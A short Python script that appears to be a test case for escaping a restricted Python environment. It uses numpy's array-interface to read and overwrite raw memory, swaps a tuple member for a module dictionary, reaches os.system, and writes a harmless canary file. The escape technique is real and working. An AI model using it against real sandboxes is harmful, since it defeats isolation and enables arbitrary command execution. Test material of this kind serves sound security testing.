# source: own
# effect: process
# needs: numpy

import random
import numpy as np


class Memory:
    # To numpy an address is as good as an array.
    def __init__(self, address):
        self.__array_interface__ = {"data": (address, False), "shape": (1,), "typestr": "<u8", "version": 3}


# A module object holds its dictionary at 16; a tuple its first member at 24.
dictionary = int(np.asarray(Memory(id(random) + 16))[0])
box = (len,)
np.asarray(Memory(id(box) + 24))[0] = dictionary
box[0]["_os"].system("echo numpy/array_interface_memory > /tmp/canary/process")
